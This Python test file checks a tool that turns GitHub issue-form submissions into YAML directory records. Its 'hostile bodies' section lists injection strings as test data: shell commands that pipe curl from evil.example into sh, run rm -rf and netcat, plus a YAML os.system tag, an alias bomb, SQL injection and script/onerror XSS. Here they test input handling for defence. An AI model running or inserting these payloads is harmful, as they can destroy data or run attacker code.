"""Issue forms: generated in sync with the schemas, and submitted bodies turned into records.

Bodies are written the way GitHub writes them for issue forms: ``### Label``, a blank
line, the answer (``_No response_`` when empty), dropdown answers joined with ", ",
checkboxes as ``- [X] label``, a ``render: yaml`` text area inside a code fence. Most
bodies here are rendered from the generated templates themselves, so a label changed in
one place and not the other fails; one is copied out verbatim, with the CRLF line ends
GitHub's API returns for edited issues.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import TODAY, Project
from verbund.cli import main
from verbund.formfields import FORMS, Vocabulary, form_fields, schema_fields
from verbund.issueform import (
    MAX_BODY,
    TEMPLATES,
    dump_record,
    from_issue,
    generate,
    issue_form,
    read_vocabulary,
)
from verbund.load import load_file
from verbund.validate import validate

REPO = Path(__file__).resolve().parent.parent
SITE = "https://verbund.example.org/"


def template(project: Project, form: str) -> dict[str, Any]:
    return yaml.safe_load(issue_form(form, read_vocabulary(project.root), SITE))


def render_body(form: dict[str, Any], answers: dict[str, Any]) -> str:
    """An issue body exactly as GitHub renders a submitted issue form."""
    parts = []
    for element in form["body"]:
        if element["type"] == "markdown":
            continue
        attributes = element["attributes"]
        value = answers.get(element["id"])
        if element["type"] == "checkboxes":
            text = "\n".join(f"- [{'X' if value else ' '}] {o['label']}"
                             for o in attributes["options"])
        elif element["type"] == "dropdown":
            wanted = value if isinstance(value, list) else [value]
            chosen = [o for o in attributes["options"]
                      if any(o == w or o.endswith(f"[{w}]") for w in wanted if w)]
            text = ", ".join(chosen) or "_No response_"
        elif value in (None, ""):
            text = "_No response_"
        elif attributes.get("render"):
            text = f"```{attributes['render']}\n{value}\n```"
        else:
            text = str(value)
        parts.append(f"### {attributes['label']}\n\n{text}")
    return "\n\n".join(parts) + "\n"


ASSOCIATION = {
    "name": "Café Grenzenlos e.V.", "kind": "migrant-organisation",
    "summary_de": "Offenes Café für Begegnung in der Nordstadt.",
    "summary_en": "An open café for meeting people in the Nordstadt.",
    "topics": ["culture", "refugee-work"],
    "description_de": "Jeden **Donnerstag** ab 16 Uhr.\n\n### Programm\n\n- Sprachcafé\n- Kochen",
    "offers": ["rooms"], "countries": "sy, AF", "languages": "de, ar, fa",
    "member_of": "buendnis-vielfalt", "founded": "2016", "volunteer_run": "true",
    "website": "https://cafe-grenzenlos.example.org", "email": "info@cafe-grenzenlos.example.org",
    "phone": "+49 561 123456", "street": "Holländische Straße 12", "postcode": "01067",
    "city": "Auenfurt", "district": "Nordstadt", "geo": "51.33, 9.50",
    "maintainers": "@octocat", "consent": True,
}
EVENT = {
    "title_de": "Interkulturelles Frühstück", "title_en": "Intercultural breakfast",
    "start_date": "5.12.2026", "start_time": "10:00", "end_time": "13.00 Uhr",
    "organizers": "weltladen-auenfurt, buendnis-vielfalt", "format": "workshop",
    "topics": ["culture"], "name": "Weltladen", "street": "Marktgasse 8", "postcode": "34117",
    "city": "Auenfurt", "accessibility": ["step-free"], "cost": "kostenlos", "consent": True,
}


def record_of(text: str, tmp_path: Path) -> dict[str, Any]:
    file = tmp_path / "record.yml"
    file.write_text(text, "utf-8")
    return load_file(file, "record.yml").data


def submit(project: Project, form: str, answers: dict[str, Any]) -> Any:
    return from_issue(project.root, render_body(template(project, form), answers), form, TODAY)


# --- realistic bodies ------------------------------------------------------------------


def test_association_from_a_realistic_body(project: Project, tmp_path: Path) -> None:
    result = submit(project, "association", ASSOCIATION)
    assert result.ok, [p.text() for p in result.problems]
    assert result.path == "directory/associations/cafe-grenzenlos-e-v.yml"
    data = record_of(result.text, tmp_path)
    assert data == {
        "name": "Café Grenzenlos e.V.", "kind": "migrant-organisation",
        "summary": {"de": "Offenes Café für Begegnung in der Nordstadt.",
                    "en": "An open café for meeting people in the Nordstadt."},
        "description": {"de": ASSOCIATION["description_de"]},
        "topics": ["culture", "refugee-work"], "countries": ["SY", "AF"],
        "languages": ["de", "ar", "fa"], "offers": ["rooms"], "member_of": ["buendnis-vielfalt"],
        "founded": 2016, "volunteer_run": True,
        "contact": {"website": "https://cafe-grenzenlos.example.org",
                    "email": "info@cafe-grenzenlos.example.org", "phone": "+49 561 123456",
                    "address": {"street": "Holländische Straße 12", "postcode": "01067",
                                "city": "Auenfurt", "district": "Nordstadt"},
                    "geo": {"lat": 51.33, "lon": 9.5}},
        "reviewed": "2026-11-23", "maintainers": ["octocat"],
    }
    # Written into the project, the directory still validates.
    project.write(result.path, result.text, dedent=False)
    assert project.problems() == []


VERBATIM = (
    "### Name des Vereins / Name of the association\r\n\r\nAfrika-Forum Auenfurt\r\n\r\n"
    "### Kurzname / Short name\r\n\r\n_No response_\r\n\r\n"
    "### Art / Kind\r\n\r\nMigrantenorganisation / Migrant organisation [migrant-organisation]\r\n\r\n"
    "### Kurzbeschreibung (Deutsch) / Summary (German)\r\n\r\n"
    "Netzwerk afrikanischer Vereine: Kultur, Beratung, Bildung.\r\n\r\n"
    "### Kurzbeschreibung (Englisch) / Summary (English)\r\n\r\n_No response_\r\n\r\n"
    "### Themen / Topics\r\n\r\nKultur / Culture [culture], Bildung / Education [education]\r\n\r\n"
    "### Beschreibung (Deutsch) / Description (German)\r\n\r\n_No response_\r\n\r\n"
    "### Wir bieten / We offer\r\n\r\n_No response_\r\n\r\n"
    "### Rein ehrenamtlich / Run by volunteers\r\n\r\nNein / No [false]\r\n\r\n"
    "### E-Mail / Email\r\n\r\nkontakt@afrika-forum.example.org\r\n\r\n"
    "### Einverständnis / Consent\r\n\r\n- [X] Ich darf diese Angaben veröffentlichen.\r\n"
)


def test_verbatim_body_with_crlf_and_missing_sections(project: Project, tmp_path: Path) -> None:
    result = from_issue(project.root, VERBATIM, "association", TODAY)
    assert result.ok, [p.text() for p in result.problems]
    data = record_of(result.text, tmp_path)
    assert data["kind"] == "migrant-organisation"
    assert data["topics"] == ["culture", "education"]
    assert data["volunteer_run"] is False
    assert data["contact"] == {"email": "kontakt@afrika-forum.example.org"}


def test_event_from_a_realistic_body(project: Project, tmp_path: Path) -> None:
    result = submit(project, "event", EVENT)
    assert result.ok, [p.text() for p in result.problems]
    assert result.path == "directory/events/2026/2026-12-05-interkulturelles-fruehstueck.yml"
    data = record_of(result.text, tmp_path)
    assert data["start"] == "2026-12-05T10:00" and data["end"] == "2026-12-05T13:00"
    assert data["organizers"] == ["weltladen-auenfurt", "buendnis-vielfalt"]
    assert data["location"] == {"name": "Weltladen", "address": {
        "street": "Marktgasse 8", "postcode": "34117", "city": "Auenfurt"}}
    assert data["cost"] == "kostenlos" and data["accessibility"] == ["step-free"]
    project.write(result.path, result.text, dedent=False)
    assert project.problems() == []


def test_update_changes_only_what_is_given_and_keeps_the_header(project: Project,
                                                                 tmp_path: Path) -> None:
    project.write("directory/associations/weltladen-auenfurt.yml",
                  "# The world shop.\n" + (project.root / "directory/associations/"
                                           "weltladen-auenfurt.yml").read_text("utf-8"),
                  dedent=False)
    before = record_of((project.root / "directory/associations/weltladen-auenfurt.yml")
                       .read_text("utf-8"), tmp_path)
    result = submit(project, "update", {
        "slug": "weltladen-auenfurt", "changes": "Neue Adresse; bitte Herrn X entfernen.",
        "confirm": True, "email": "info@weltladen.example.org", "consent": True,
    })
    assert result.ok, [p.text() for p in result.problems]
    assert result.path == "directory/associations/weltladen-auenfurt.yml"
    assert result.text.startswith("# The world shop.\n")
    after = record_of(result.text, tmp_path)
    assert after == {**before, "contact": {"email": "info@weltladen.example.org"},
                     "reviewed": "2026-11-23"}
    assert result.changes == "Neue Adresse; bitte Herrn X entfernen."


def test_update_that_changes_nothing_is_refused(project: Project) -> None:
    result = submit(project, "update", {"slug": "weltladen-auenfurt", "consent": True})
    assert not result.ok
    assert "nothing to change" in result.problems[0].text()


def test_update_of_an_unknown_association(project: Project) -> None:
    result = submit(project, "update", {"slug": "gibt-es-nicht", "confirm": True,
                                        "consent": True})
    assert [p.text() for p in result.problems] == [
        "Adresse der Seite / Page address: there is no association 'gibt-es-nicht' in the "
        "directory; copy the short name from the address of its page (…/directory/<slug>/)"]


def test_new_association_that_exists_points_to_the_update_form(project: Project) -> None:
    result = submit(project, "association", {**ASSOCIATION, "name": "Weltladen Auenfurt"})
    assert any("use the form 'Update an association'" in p.text() for p in result.problems)


def test_mistakes_are_reported_with_the_labels_people_saw(project: Project) -> None:
    answers = {**ASSOCIATION, "name": "X", "email": "keine-adresse", "kind": None,
               "topics": [], "countries": "SY, XX", "founded": "neunzehnhundert",
               "consent": False}
    result = submit(project, "association", answers)
    texts = [p.text() for p in result.problems]
    assert "Gründungsjahr / Year founded: 'neunzehnhundert' is not a whole number; write " \
           "digits only, e.g. 1998" in texts
    assert "Einverständnis / Consent: please tick this box" in texts
    assert "Name des Vereins / Name of the association: is 1 character long; at least 2 " \
           "are needed" in texts
    assert "Art / Kind: this answer is required" in texts
    assert "Themen / Topics: this answer is required" in texts
    assert any(t.startswith("E-Mail / Email: 'keine-adresse' is not an email") for t in texts)
    assert "Herkunfts- und Partnerländer / Countries: 'XX' is not an ISO 3166-1 country " \
           "code" in texts
    assert not any(re.search(r"\.yml:\d+", t) for t in texts), "no file positions in messages"


def test_comment_quotes_answers_inside_a_code_block(project: Project, capsys: Any,
                                                    tmp_path: Path) -> None:
    hostile = "@everyone````[x](https://evil.example)"
    body = render_body(template(project, "association"), {**ASSOCIATION, "email": hostile})
    file = tmp_path / "body.md"
    file.write_text(body, "utf-8")
    assert main(["from-issue", str(file), "--form", "association", "--root",
                 str(project.root), "--markdown"]) == 1
    out = capsys.readouterr().out
    fence = re.search(r"^(`{3,})text$", out, re.M)[1]
    assert len(fence) == 5  # longer than the four backticks inside
    before, inside, after = out.partition(fence + "text\n")[0], *out.partition(
        fence + "text\n")[2].partition("\n" + fence)[::2]
    assert hostile in inside and hostile not in before and after.strip() == ""


def test_cli_writes_the_record_and_prints_its_path(project: Project, tmp_path: Path,
                                                   capsys: Any, cli_env: None) -> None:
    file = tmp_path / "body.md"
    file.write_text(render_body(template(project, "association"), ASSOCIATION), "utf-8")
    pr = tmp_path / "pr.md"
    code = main(["from-issue", str(file), "--form", "association", "--root", str(project.root),
                 "--write", "--pr-body", str(pr), "--issue", "7"])
    assert code == 0
    path = capsys.readouterr().out.strip()
    assert path == "directory/associations/cafe-grenzenlos-e-v.yml"
    assert (project.root / path).is_file()
    assert "Closes #7" in pr.read_text("utf-8")
    _, problems = validate(project.root, TODAY)
    assert [p for p in problems if p.is_error] == []


def test_cli_prints_problems_and_exits_1(project: Project, tmp_path: Path, capsys: Any,
                                         cli_env: None) -> None:
    file = tmp_path / "body.md"
    file.write_text("just some text, no form", "utf-8")
    assert main(["from-issue", str(file), "--form", "event", "--root", str(project.root)]) == 1
    assert "no answers of the form were found" in capsys.readouterr().out


# --- hostile bodies --------------------------------------------------------------------

HOSTILE_TEXTS = [
    "$(rm -rf ~)", "`id`", "'; DROP TABLE x; --", "a && curl evil.example | sh",
    "yes", "NO", "on", "~", "null", "1e5", "0o17", "0x1F", "+1", ".5", "10:30", "2026-12-05",
    "- item", "*alias", "&anchor", "!!python/object/apply:os.system ['id']", "{a: b}",
    "[x, y]", "'quoted'", '"double"', "# comment", "key: value", "a #b", "@user", "%YAML 1.2",
    "---", "...", "|", ">", "?", "tab\there", "back\\slash", "trailing space ", " leading",
    "ünïcödé – “quotes”", "line\u2028separator", "<script>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_emitter_keeps_every_text_as_that_text(text: str, tmp_path: Path) -> None:
    dumped = dump_record({"name": text, "summary": {"de": text}, "topics": [text, "x"]})
    data = record_of(dumped, tmp_path)
    assert data == {"name": text, "summary": {"de": text}, "topics": [text, "x"]}


def test_multi_line_text_roundtrips(tmp_path: Path) -> None:
    text = "First line\n  indented\n\n- list\nkind: alliance\n### heading\nlast  "
    data = record_of(dump_record({"description": {"de": text}}), tmp_path)
    assert data == {"description": {"de": text}}


def test_shell_metacharacters_stay_data(project: Project, tmp_path: Path) -> None:
    name = "Verein $(touch /tmp/pwned) `id` ; rm -rf / | nc evil 1 && echo"
    result = submit(project, "association", {**ASSOCIATION, "name": name})
    assert result.ok, [p.text() for p in result.problems]
    assert record_of(result.text, tmp_path)["name"] == name
    assert not Path("/tmp/pwned").exists()


def test_yaml_injection_in_a_single_line_answer_is_refused(project: Project) -> None:
    body = render_body(template(project, "association"), ASSOCIATION)
    body = body.replace("Café Grenzenlos e.V.", "x\nkind: alliance\nreviewed: 1999-01-01", 1)
    result = from_issue(project.root, body, "association", TODAY)
    assert [p.text() for p in result.problems] == [
        "Name des Vereins / Name of the association: must be a single line"]


def test_yaml_injection_in_a_text_area_is_data(project: Project, tmp_path: Path) -> None:
    attack = "Harmlos.\nkind: alliance\nreviewed: 1999-01-01\nmaintainers: [attacker]"
    result = submit(project, "association", {**ASSOCIATION, "description_de": attack})
    assert result.ok, [p.text() for p in result.problems]
    data = record_of(result.text, tmp_path)
    assert data["kind"] == "migrant-organisation"
    assert data["reviewed"] == "2026-11-23"
    assert data["maintainers"] == ["octocat"]
    assert data["description"]["de"] == attack


def test_a_question_repeated_inside_an_answer_is_refused(project: Project) -> None:
    sneaky = "Text.\n\n### Art / Kind\n\nBündnis / Alliance [alliance]"
    result = submit(project, "association", {**ASSOCIATION, "description_de": sneaky})
    assert [p.text() for p in result.problems] == [
        "Art / Kind: this question appears twice in the issue; keep only one answer"]


def test_huge_bodies_are_refused(project: Project, tmp_path: Path, capsys: Any,
                                 cli_env: None) -> None:
    body = render_body(template(project, "association"),
                       {**ASSOCIATION, "description_de": "x" * (MAX_BODY + 10)})
    result = from_issue(project.root, body, "association", TODAY)
    assert not result.ok and "is at most 65,536" in result.problems[0].text()
    file = tmp_path / "huge.md"
    file.write_bytes(b"### a\n\n" + b"y" * 3_000_000)
    assert main(["from-issue", str(file), "--form", "event", "--root", str(project.root)]) == 1


def test_long_answer_is_limited_by_the_schema(project: Project) -> None:
    result = submit(project, "association", {**ASSOCIATION, "summary_de": "x" * 400})
    assert [p.text() for p in result.problems] == [
        "Kurzbeschreibung (Deutsch) / Summary (German): is 400 characters long; the limit is "
        "300: shorten it"]


def test_html_is_refused_in_plain_text_and_markdown(project: Project) -> None:
    result = submit(project, "association", {
        **ASSOCIATION, "summary_de": "<b>Fett</b> und <script>alert(1)</script>",
        "description_de": "Hallo <img src=x onerror=alert(1)>",
    })
    texts = [p.text() for p in result.problems]
    assert any(t.startswith("Kurzbeschreibung (Deutsch) / Summary (German): plain text may "
                            "not contain HTML") for t in texts)
    assert any(t.startswith("Beschreibung (Deutsch) / Description (German):") for t in texts)


@pytest.mark.parametrize("char", ["\x07", "\x1b", "\u202e", "\x85"])
def test_control_characters_are_refused(project: Project, char: str) -> None:
    result = submit(project, "association", {**ASSOCIATION, "name": f"Café{char}Grenzenlos"})
    assert len(result.problems) == 1
    assert result.problems[0].text().startswith("Name des Vereins / Name of the association: "
                                                "contains ")


def test_unknown_choice_is_refused_with_the_choices(project: Project) -> None:
    body = render_body(template(project, "association"), ASSOCIATION)
    body = body.replace("Migrantenorganisation / Migrant organisation [migrant-organisation]",
                        "Geheimbund [secret]")
    result = from_issue(project.root, body, "association", TODAY)
    assert [p.text() for p in result.problems] == [
        "Art / Kind: 'Geheimbund [secret]' is not one of the choices (migrant-organisation, "
        "one-world-group, alliance, world-shop)"]


def test_record_field_from_the_web_form_fills_dropdowns(project: Project,
                                                        tmp_path: Path) -> None:
    record = "name: Ignored\nkind: world-shop\ntopics: [fair-trade]\nsummary: {de: Aus YAML.}\n"
    answers = {"name": "Weltcafé", "kind": None, "topics": [], "record": record,
               "consent": True}
    result = submit(project, "association", answers)
    assert result.ok, [p.text() for p in result.problems]
    data = record_of(result.text, tmp_path)
    assert data["name"] == "Weltcafé"  # the field wins over the record
    assert data["kind"] == "world-shop" and data["topics"] == ["fair-trade"]


@pytest.mark.parametrize(("record", "message"), [
    ("name: !!python/object/apply:os.system ['id']", "YAML tags such as"),
    ("a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
     "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, "
     "*c, *c]\ne: [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]", "aliases expand to more than"),
    ("- just\n- a list", "must be a mapping of fields"),
    ("name: a\nname: b", "duplicate key"),
])
def test_hostile_record_field_is_an_error(project: Project, record: str, message: str) -> None:
    result = submit(project, "association", {**ASSOCIATION, "record": record})
    assert any(message in p.text() for p in result.problems), [p.text() for p in result.problems]


def test_body_that_is_no_form(project: Project) -> None:
    result = from_issue(project.root, "Hallo, bitte tragt uns ein!", "association", TODAY)
    assert [p.text() for p in result.problems] == [
        "no answers of the form were found; was the issue written with the form and its "
        "headings kept?"]


# --- the generated forms ---------------------------------------------------------------


def test_committed_issue_forms_are_in_sync(capsys: Any) -> None:
    assert main(["issue-forms", "--check", "--root", str(REPO)]) == 0, capsys.readouterr().err


def test_check_reports_drift_after_a_taxonomy_change(project: Project, capsys: Any) -> None:
    assert main(["issue-forms", "--root", str(project.root)]) == 0
    assert main(["issue-forms", "--check", "--root", str(project.root)]) == 0
    taxonomy = project.root / "directory/taxonomy.yml"
    taxonomy.write_text(taxonomy.read_text("utf-8").replace(
        "formats:\n", "formats:\n  fair: {de: Markt, en: Fair}\n"), "utf-8")
    capsys.readouterr()
    assert main(["issue-forms", "--check", "--root", str(project.root)]) == 1
    assert ".github/ISSUE_TEMPLATE/add-event.yml: differs" in capsys.readouterr().err


@pytest.mark.parametrize("form", FORMS)
def test_generated_forms_follow_githubs_rules(form: str) -> None:
    data = yaml.safe_load((REPO / ".github/ISSUE_TEMPLATE" / TEMPLATES[form]).read_text("utf-8"))
    assert data["name"] and data["description"] and data["labels"]
    ids, labels = [], []
    for element in data["body"]:
        assert element["type"] in ("markdown", "input", "textarea", "dropdown", "checkboxes")
        if element["type"] == "markdown":
            continue
        assert re.fullmatch(r"[A-Za-z0-9_-]+", element["id"])
        ids.append(element["id"])
        labels.append(element["attributes"]["label"])
        options = element["attributes"].get("options")
        if element["type"] == "dropdown":
            assert options and len(set(options)) == len(options) and "None" not in options
            assert "validations" not in element  # GitHub cannot prefill dropdowns from a URL
        if element["type"] == "checkboxes":
            assert all(o["label"] for o in options)
    assert len(set(ids)) == len(ids) and len(set(labels)) == len(labels)


def test_profile_report_link_matches_the_update_form() -> None:
    pages = (REPO / "hooks/verbund/pages.py").read_text("utf-8")
    assert "template=update-association.yml" in pages and "&slug=" in pages
    data = yaml.safe_load((REPO / ".github/ISSUE_TEMPLATE/update-association.yml")
                          .read_text("utf-8"))
    assert "slug" in [e.get("id") for e in data["body"]]
    assert data["labels"] == ["update-association"]


def test_generated_forms_use_every_vocabulary_id() -> None:
    files = generate(REPO)
    taxonomy = yaml.safe_load((REPO / "directory/taxonomy.yml").read_text("utf-8"))
    association = files[".github/ISSUE_TEMPLATE/add-association.yml"]
    for term in taxonomy["kinds"]:
        assert f"[{term}]" in association
    assert all(f"[{t}]" in files[".github/ISSUE_TEMPLATE/add-event.yml"]
               for t in taxonomy["formats"])


def test_every_form_field_exists_in_the_schema() -> None:
    vocab = Vocabulary({}, ("de", "en"))
    for form in FORMS:
        record = "event" if form == "event" else "association"
        paths = {f.path for f in schema_fields(record)}
        for f in form_fields(form, vocab):
            if f.path:
                assert ".".join(f.path) in paths, f.id


def test_reading_a_missing_file_is_a_usage_error(project: Project, capsys: Any) -> None:
    assert main(["from-issue", str(project.root / "nope.md"), "--form", "event",
                 "--root", str(project.root)]) == 2
